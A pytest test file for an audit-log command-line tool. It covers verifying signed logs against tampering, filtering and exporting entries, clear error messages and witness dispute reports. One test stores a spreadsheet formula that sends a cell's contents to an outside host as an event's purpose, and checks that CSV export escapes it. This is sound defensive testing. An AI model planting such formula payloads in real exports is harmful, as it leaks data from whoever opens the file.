"""`circe audit` verifies and shows logs, and answers bad input with one clear line."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from click.testing import CliRunner, Result

from audit.checkpoint import KeyKind, VerifierKey, parse_checkpoint, split_note
from audit.commands import audit
from audit.cosignature import cosign
from audit.event import MEMBERS, Action, AuditEvent, Outcome
from audit.export import write_export
from audit.witness import DISPUTES, Refusal, WitnessRefused
from audit.witness_listing import MEANINGS
from audit.witness_store import SCHEMA, add_to_round, answer_offer, find_round, keep_evidence
from tests.audit.conftest import START
from tests.audit.test_witness import PlayedLog

if TYPE_CHECKING:
    from tests.audit.conftest import Party, SeedSigner

MakeEvent = Callable[..., AuditEvent]


def run(*arguments: object) -> Result:
    return CliRunner().invoke(audit, [str(argument) for argument in arguments])


def export(party: Party, path: Path) -> Path:
    with path.open("wb") as file:
        write_export(party.connection, file)
    return path


# --- verify ----------------------------------------------------------------------------------------------------------


def test_a_whole_log_is_one_line(filled: Party) -> None:
    result = run("verify", "--state", filled.directory)
    assert result.exit_code == 0
    assert result.stdout.startswith("verified circe.example/node/301: 10 entries, 8 checkpoints, root ")
    assert result.stdout.endswith(", 2026-01-05T09:00:00Z to 2026-01-05T09:09:00Z\n")
    assert result.stderr == ""


def test_an_empty_log_is_whole(party: Party) -> None:
    result = run("verify", "--state", party.directory)
    assert (result.exit_code, result.stdout.count("\n")) == (0, 1)
    assert "0 entries" in result.stdout


def test_an_exported_file_and_the_database_itself_are_logs_too(filled: Party) -> None:
    """The key is in log.pub beside the file, or given."""
    path = export(filled, filled.directory / "audit.log")
    result = run("verify", path, filled.database)
    lines = result.stdout.splitlines()
    assert result.exit_code == 0
    assert lines == [lines[0]] * 2


def test_a_key_can_be_given(filled: Party, tmp_path: Path) -> None:
    path = export(filled, tmp_path / "elsewhere.log")
    key = VerifierKey(filled.signer.name, filled.signer.public_key).to_text()
    assert run("verify", path).exit_code == 2, "there is no log.pub here"
    assert run("verify", path, "--key", key).exit_code == 0


def test_a_given_key_counts_more_than_the_one_beside_the_log(
    filled: Party, make_signer: Callable[[str, int], SeedSigner]
) -> None:
    key = VerifierKey(filled.signer.name, make_signer(filled.signer.name, 2).public_key).to_text()
    assert run("verify", "--state", filled.directory, "--key", key).exit_code == 7


def test_a_broken_log_says_at_which_entry(filled: Party) -> None:
    filled.connection.execute("DELETE FROM audit_entries WHERE idx = 4")
    result = run("verify", "--state", filled.directory)
    assert result.exit_code == 7
    assert result.stdout == f"broken {filled.directory}: entry 4: it is missing: a checkpoint covers 5 entries\n"


def test_one_broken_log_does_not_hide_the_others(filled: Party) -> None:
    path = export(filled, filled.directory / "audit.log")
    filled.connection.execute("UPDATE audit_head SET size = 3")
    result = run("verify", filled.directory, path)
    assert result.exit_code == 7
    assert [line.split()[0] for line in result.stdout.splitlines()] == ["broken", "verified"]


# --- show ------------------------------------------------------------------------------------------------------------


def test_entries_are_shown_newest_first(filled: Party) -> None:
    result = run("show", "--state", filled.directory, "--limit", 3)
    lines = result.stdout.splitlines()
    assert result.exit_code == 0
    columns = ["entry", "at", "actor", "acting_for", "action", "outcome", "subject", "reference", "purpose"]
    assert lines[0].split() == columns
    assert [line.split()[0] for line in lines[1:]] == ["9", "8", "7"]
    assert lines[1].split()[1:4] == ["2026-01-05T09:09:00.000000Z", "vsh@301.example", "lookup.asked"]


def test_entries_as_csv(filled: Party) -> None:
    result = run("show", "--state", filled.directory, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert list(rows[0]) == ["entry", *MEMBERS]
    assert [row["entry"] for row in rows] == [str(n) for n in range(9, -1, -1)]
    assert json.loads(rows[0]["details"]) == {"rows": 9}


def test_a_purpose_is_no_sum_to_a_spreadsheet(party: Party, make_event: Callable[..., AuditEvent]) -> None:
    """Another authority's people write purposes, which our officer may open in a spreadsheet."""
    sum_ = '=HYPERLINK("http://example.org/"&A1)'
    party.record(replace(make_event(0), purpose=sum_))
    result = run("show", "--state", party.directory, "--format", "csv")
    (row,) = csv.DictReader(io.StringIO(result.stdout))
    assert row["purpose"] == f"'{sum_}"


def test_entries_as_json(filled: Party) -> None:
    result = run("show", "--state", filled.directory, "--format", "json", "--reference", "lookup-4")
    (entry,) = json.loads(result.stdout)
    assert entry["entry"] == 4
    assert entry["details"] == {"rows": 4}


@pytest.mark.parametrize(
    ("arguments", "found"),
    [
        (["--action", "query.released"], [10]),
        (["--actor", "dcs@301.example"], [10]),
        (["--subject", "5eed" * 8], [10]),
        (["--reference", "lookup-2"], [2]),
        (["--since", "2026-01-05T09:08:00Z", "--limit", 2], [10, 9]),
        (["--since", "2026-01-06"], []),
        (["--action", "signin"], []),
        (["--outcome", "refused"], [10]),
        (["--acting-for", "301"], [10]),
        (["--purpose", "THE PLAN"], [10]),
        (["--policy-version", "v2"], [10]),
        (["--before", 2], [1, 0]),
    ],
    ids=lambda value: " ".join(map(str, value)),
)
def test_every_filter(filled: Party, make_event: MakeEvent, arguments: list[object], found: list[int]) -> None:
    told = {"outcome": Outcome.REFUSED, "acting_for": "301", "purpose": "Reading the plan", "policy_version": "v2"}
    about = {"action": Action.QUERY_RELEASED, "actor": "dcs@301.example", "subject": "5eed" * 8}
    filled.record(make_event(10, **about, **told))
    result = run("show", "--state", filled.directory, "--format", "json", *arguments)
    assert [entry["entry"] for entry in json.loads(result.stdout)] == found


def test_an_entry_that_is_no_event_is_named(filled: Party) -> None:
    filled.connection.execute("UPDATE audit_entries SET body = '{}' WHERE idx = 3")
    result = run("show", "--state", filled.directory)
    assert result.exit_code == 7
    assert "entry 3 is not an event" in result.stderr
    assert result.stdout == ""


# --- Bad input -------------------------------------------------------------------------------------------------------


def spoil(party: Party, what: str) -> None:
    """Make a state directory that is none, in one way."""
    match what:
        case "no key":
            (party.directory / "log.pub").unlink()
        case "a key that is none":
            (party.directory / "log.pub").write_text("key\n", encoding="utf-8")
        case "a key that is not text":
            (party.directory / "log.pub").write_bytes(b"\xff\xfe")
        case "no database":
            party.connection.close()
            party.database.unlink()
        case "a database without a log":
            party.connection.execute("DROP TABLE audit_head")
        case "a database that is none":
            party.connection.close()
            party.database.write_bytes(b"SQLite format 3\x00" + bytes(4000))
        case "two databases with a log":
            (party.directory / "copy.sqlite").write_bytes(party.database.read_bytes())


STATES = {
    "no key": ["verify"],
    "a key that is none": ["verify"],
    "a key that is not text": ["verify"],
    "no database": ["verify", "show"],
    "a database without a log": ["verify", "show"],
    "a database that is none": ["verify", "show"],
    "two databases with a log": ["verify", "show"],
}


@pytest.mark.parametrize(
    ("what", "command"), [(what, command) for what, commands in STATES.items() for command in commands]
)
def test_a_directory_that_shows_no_log_is_one_clear_error(party: Party, what: str, command: str) -> None:
    party.connection.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    spoil(party, what)
    check_one_clear_error(run(command, "--state", party.directory))


@pytest.mark.parametrize(
    "arguments",
    [
        ["verify"],
        ["verify", "--state", "nowhere"],
        ["verify", "nothing.log"],
        ["verify", "--state", "{state}", "--key", "key"],
        ["verify", "--state", "{state}", "{state}", "--key", "key"],
        ["verify", "{state}/log.pub"],
        ["show"],
        ["show", "--state", "nowhere"],
        ["show", "--state", "{state}", "--action", "query.leaked"],
        ["show", "--state", "{state}", "--outcome", "well"],
        ["show", "--state", "{state}", "--since", "yesterday"],
        ["show", "--state", "{state}", "--limit", "0"],
        ["show", "--state", "{state}", "--format", "xml"],
    ],
    ids=" ".join,
)
def test_bad_arguments_are_one_clear_error(filled: Party, arguments: list[str]) -> None:
    check_one_clear_error(run(*(argument.format(state=filled.directory) for argument in arguments)))


def check_one_clear_error(result: Result) -> None:
    assert result.exit_code == 2
    assert isinstance(result.exception, SystemExit), "no traceback"
    assert result.stdout == ""
    assert sum(line.startswith("Error: ") for line in result.stderr.splitlines()) == 1


def test_naming_the_commands_loads_nothing_heavy() -> None:
    code = "import sys, audit.commands; print([m for m in ('cryptography', 'sqlite3', 'json') if m in sys.modules])"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"


def test_entries_of_a_span_of_time_are_shown(filled: Party) -> None:
    span = ["--since", "2026-01-05T09:02:00", "--until", "2026-01-05T09:05:00"]
    result = run("show", "--state", filled.directory, "--format", "json", *span)
    assert [each["entry"] for each in json.loads(result.stdout)] == [4, 3, 2]


@pytest.mark.parametrize(
    ("until", "any_there"), [("2026-01-05", True), ("2026-01-05T00:00:00Z", False), ("2026-01-04", False)]
)
def test_a_day_at_the_end_of_a_span_is_in_it_as_at_the_pages(filled: Party, until: str, *, any_there: bool) -> None:
    result = run("show", "--state", filled.directory, "--format", "json", "--since", "2026-01-01", "--until", until)
    assert bool(json.loads(result.stdout)) is any_there


def test_the_last_day_that_there_is_ends_no_span(filled: Party) -> None:
    result = run("show", "--state", filled.directory, "--until", "9999-12-31")
    assert result.exit_code == 2
    assert "no day after it" in result.stderr


# --- A checkpoint that was kept elsewhere ----------------------------------------------------------------------------


def test_a_log_that_was_cut_back_is_found_out_by_a_checkpoint_kept_elsewhere(
    filled: Party, make_event: MakeEvent, tmp_path: Path
) -> None:
    before = tmp_path / "before.sqlite"
    filled.connection.execute("VACUUM INTO ?", (str(before),))
    filled.record(make_event(11))
    kept = tmp_path / "checkpoint"
    kept.write_text(filled.log.latest_checkpoint(filled.connection))
    key = (filled.directory / "log.pub").read_text().strip()
    assert run("verify", filled.database, "--key", key, "--kept", kept).exit_code == 0
    assert run("verify", before, "--key", key).exit_code == 0
    result = run("verify", before, "--key", key, "--kept", kept)
    assert result.exit_code == 7
    assert "entry 10: it is missing: a checkpoint kept elsewhere covers 11 entries" in result.stdout


def test_a_log_that_was_written_anew_is_found_out_by_a_checkpoint_kept_elsewhere(
    filled: Party, make_event: MakeEvent, tmp_path: Path
) -> None:
    """Whole in itself and signed by its own key, with one entry told otherwise."""
    kept = tmp_path / "checkpoint"
    kept.write_text(filled.log.latest_checkpoint(filled.connection))
    anew = type(filled)(tmp_path / "anew", filled.signer)
    for n in range(12):
        anew.record(make_event(n, actor="nobody@301.example") if n == 3 else make_event(n))
    assert run("verify", "--state", anew.directory).exit_code == 0
    result = run("verify", "--state", anew.directory, "--kept", kept)
    assert (result.exit_code, "up to entry 9 is not what was kept" in result.stdout) == (7, True)
    anew.connection.close()


def test_what_is_kept_must_be_of_this_log(filled: Party, tmp_path: Path) -> None:
    kept = tmp_path / "checkpoint"
    kept.write_text("circe.example/node/301\n10\nAAAA\n")
    result = run("verify", "--state", filled.directory, "--kept", kept)
    assert result.exit_code == 2
    assert "no checkpoint of this log" in result.stderr


# --- witnesses -------------------------------------------------------------------------------------------------------


def test_what_is_witnessed_and_disputed_is_told(filled: Party, make_signer: Callable[[str, int], SeedSigner]) -> None:
    connection, hub, witness = filled.connection, make_signer("hub", 3), make_signer("node-316", 8)
    connection.executescript(SCHEMA.read_text())
    assert run("witnesses", "--state", filled.directory).stdout == "own log: 0 of 10 entries witnessed\n"
    current = find_round(connection, 1, START)
    checkpoint = parse_checkpoint(split_note(current.note)[0])
    add_to_round(
        connection,
        10,
        cosign(checkpoint, witness, 1),
        VerifierKey(witness.name, witness.public_key, KeyKind.COSIGNATURE),
    )
    honest, forked = PlayedLog(hub), PlayedLog(hub, fork_at=3)
    answer_offer(connection, honest.offer(0, 5), "hub", hub.public_key, filled.signer, START)
    result = run("witnesses", "--state", filled.directory)
    assert result.stdout == "own log: 10 of 10 entries witnessed by node-316\nsigned hub: 5 entries\n"
    assert result.exit_code == 0
    with pytest.raises(WitnessRefused) as refused:
        answer_offer(connection, forked.offer(5, 5), "hub", hub.public_key, filled.signer, START)
    keep_evidence(connection, forked.offer(5, 5), "hub", refused.value, START)
    result = run("witnesses", "--state", filled.directory, "--evidence")
    assert result.exit_code == 7
    assert (
        "disputed hub: it signed two different histories of one length (split), seen 2026-01-05T09:00" in result.stdout
    )
    assert honest.note(5) in result.stdout
    assert forked.note(5) in result.stdout


def test_every_dispute_has_its_words() -> None:
    assert {Refusal(name) for name in MEANINGS} == DISPUTES


def test_a_party_without_witnesses_says_so(filled: Party) -> None:
    result = run("witnesses", "--state", filled.directory)
    assert (result.exit_code, "keeps nothing of witnesses" in result.stderr) == (2, True)
